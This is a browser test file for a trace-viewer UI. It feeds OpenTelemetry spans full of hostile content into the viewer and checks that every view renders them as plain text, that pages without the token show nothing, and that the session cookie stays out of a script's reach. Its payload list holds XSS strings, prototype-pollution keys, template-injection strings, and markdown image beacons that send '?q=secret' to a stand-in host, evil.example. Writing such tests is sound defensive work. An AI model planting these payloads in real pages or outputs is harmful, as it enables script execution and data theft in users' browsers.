import { supportAgent, trace } from "../support/otlp.mjs";
import { expect, test } from "../support/test.ts";

// Everything here is content that a program, a model or a file might carry. All of it must stay text.
const PAYLOADS = [
  '<script>globalThis.pwned = 1; alert(1)</script>',
  '<img src=x onerror="globalThis.pwned = 1; alert(1)">',
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  '<iframe src="javascript:alert(1)" srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">',
  '<a ping="https://evil.example/p" href="javascript:alert(1)">x</a>',
  "![beacon](https://evil.example/beacon.png?q=secret)",
  "[![nested](https://evil.example/n.png)](https://evil.example/link)",
  "[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)",
  "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "<style>@import url(https://evil.example/i.css); * { background: url(https://evil.example/b.png) }</style>",
  '<form action="https://evil.example"><button autofocus onfocus=alert(1)>x</button></form>',
  '"><details open ontoggle=alert(1)>',
  "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
  "\u202Egnp.exe\u202C \u0000 \u001b[31mred\u001b[0m",
  "https://evil.example/auto-linked",
];
const KEYS = ["__proto__", "constructor.prototype.polluted", "__proto__.polluted", "toString", ...PAYLOADS];

function hostileSpans() {
  const messages = (role: string) =>
    JSON.stringify(PAYLOADS.map((content) => ({ role, parts: [{ type: "text", content }] })));
  return [
    { name: PAYLOADS[0]!, took: 500, attributes: Object.fromEntries(KEYS.map((key, at) => [key, PAYLOADS[at % PAYLOADS.length]!])) },
    {
      name: PAYLOADS[1]!,
      parent: 0,
      error: PAYLOADS[3]!,
      attributes: {
        "gen_ai.operation.name": "chat",
        "gen_ai.request.model": PAYLOADS[1]!,
        "gen_ai.provider.name": PAYLOADS[2]!,
        "gen_ai.prompt.name": PAYLOADS[1]!,
        "gen_ai.input.messages": messages("user"),
        "gen_ai.output.messages": messages("assistant"),
        "error.type": PAYLOADS[1]!,
      },
      events: PAYLOADS.map((name) => ({ name, attributes: { [name]: name } })),
    },
    {
      name: "execute_tool",
      parent: 0,
      attributes: {
        "gen_ai.operation.name": "execute_tool",
        "gen_ai.tool.name": "__proto__",
        "gen_ai.tool.call.arguments": '{"__proto__":{"polluted":1},"a":"<img src=x onerror=alert(1)>"}',
        "gen_ai.tool.call.result": PAYLOADS.join("\n"),
      },
    },
  ];
}

test("hostile content stays text in every view", async ({ page, visit, fresh }) => {
  test.setTimeout(120_000);
  const sent = trace(PAYLOADS[1]!, hostileSpans());
  await fresh.send("traces", sent.body);
  await fresh.send("traces", supportAgent("__proto__", "<img src=https://evil.example/x.png>").body);
  await fresh.settled();
  const intact = async () =>
    expect(
      await page.evaluate(() => ({
        pwned: "pwned" in globalThis,
        polluted: "polluted" in {},
        strange: document.querySelectorAll("main iframe, main script, main link, main base, main form[action]").length,
        images: [...document.images].map((image) => image.src).filter((src) => !src.startsWith(location.origin)),
        links: [...document.links].map((link) => link.protocol).filter((each) => !["http:", "https:", "mailto:"].includes(each)),
      })),
    ).toEqual({ pwned: false, polluted: false, strange: 0, images: [], links: [] });

  await visit("#/live", fresh);
  const grid = page.getByRole("grid", { name: "Traces" });
  await expect(grid).toContainText("<script>");
  await intact();
  await page.keyboard.press("j");
  await intact();
  for (const spanId of sent.spanIds) {
    await visit(`#/trace/${sent.traceId}?span=${spanId}`, fresh);
    await expect(page.getByRole("tablist", { name: "Parts of the span" })).toBeVisible();
    for (const tab of await page.getByRole("tab").all()) {
      await tab.click();
      // A span without a conversation shows its input and output under the first tab's place.
      if ((await tab.getAttribute("id")) !== "tab-chat") await expect(tab).toHaveAttribute("aria-selected", "true");
      await expect(page.getByRole("tabpanel")).toContainText(/\S/);
      await intact();
    }
    await page.keyboard.press("m");
    await intact();
  }
  const main = page.getByRole("main");
  const drawn = {
    prompts: main.getByText("<img src=x").first(),
    quality: main.getByText(/Nothing fired|No responses|Evidence/).first(),
    trends: main.locator("svg, canvas").first(),
    connect: main.getByRole("region", { name: "Snippets" }),
    settings: main.getByText("clew.db").first(),
  };
  for (const [view, content] of Object.entries(drawn)) {
    await visit(`#/${view}`, fresh);
    await expect(content, view).toBeVisible();
    await intact();
  }
  // Hostile places in the address itself.
  for (const hash of ["#/<img src=x onerror=alert(1)>", "#/trace/%3Cscript%3E", "#/live?text=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&service=__proto__", "#/%E0%A4%A"]) {
    await visit(hash, fresh);
    await expect(main, hash).toContainText(/\S/);
    await intact();
  }
});

test("a page without the token shows nothing", async ({ browser, clew }) => {
  const page = await browser.newPage();
  const response = await page.goto(`http://${clew.ui}/#/live`);
  const text = await page.locator("body").innerText();
  expect(text).not.toContain("gpt-4o");
  expect([200, 401]).toContain(response?.status());
  const api = await page.request.post(`http://${clew.ui}/api/list_traces`, { data: {} });
  expect(api.status()).toBe(401);
  await page.close();
});

test("the token leaves the address and the cookie is out of a script's reach", async ({ page, visit, context }) => {
  await visit("#/live");
  await expect(page.getByRole("grid", { name: "Traces" })).toBeVisible();
  expect(page.url()).not.toContain("token");
  const [cookie] = await context.cookies();
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict" });
  expect(await page.evaluate(() => document.cookie)).toBe("");
});
